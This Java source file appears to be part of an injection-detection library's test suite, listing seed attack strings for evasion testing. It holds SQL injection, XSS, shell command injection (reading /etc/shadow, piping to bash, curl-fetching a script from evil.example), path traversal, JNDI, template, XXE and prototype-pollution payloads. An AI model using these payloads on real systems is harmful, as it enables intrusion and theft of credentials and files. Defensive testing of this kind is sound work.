// SPDX-License-Identifier: Apache-2.0
package dev.lambdaguardrails.validation.injection;

import java.util.List;

/** Attacks of our own writing, a few for each class, that the evasions start from. */
final class Attacks {
  /** Each spells something that its encodings can hide: letters, quotes, brackets, slashes. */
  static final List<String> ALL =
      List.of(
          "zoe' OR 7=7-- ",
          "12 UNION SELECT login,pin FROM staff--",
          "0); DROP TABLE invoices;--",
          "k' AND (SELECT COUNT(*) FROM information_schema.tables)>0#",
          "4 AND pg_sleep(9)",
          "<script>steal(document.cookie)</script>",
          "<img src=q onerror=alert(7)>",
          "\"><svg onload=prompt(2)>",
          "<a href=\"javascript:confirm(3)\">more</a>",
          "<iframe src=//evil.example></iframe>",
          "x; cat /etc/shadow",
          "a.txt|/bin/bash -i",
          "$(curl http://evil.example/p.sh)",
          "../../../../etc/passwd",
          "..\\..\\..\\windows\\win.ini",
          "/static/../../../../proc/self/environ",
          "${jndi:ldap://evil.example/a}",
          "{{7*7}}",
          "${T(java.lang.Runtime).getRuntime().exec('id')}",
          "{\"user\":{\"$ne\":null}}",
          "*)(uid=*))(|(uid=*",
          "'] | //user/* | a['",
          "<!DOCTYPE d [<!ENTITY e SYSTEM \"file:///etc/hosts\">]><d>&e;</d>",
          "<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\">",
          "{\"__proto__\":{\"admin\":true}}",
          "bash -c id",
          "'{\"k\":2}'::jsonb @> '{\"z\":1}'::jsonb",
          "{% if 1 %}x{% endif %}",
          "alias k=curl&k evil.example",
          "http://shop.example#@evil.example/");

  private Attacks() {}
}
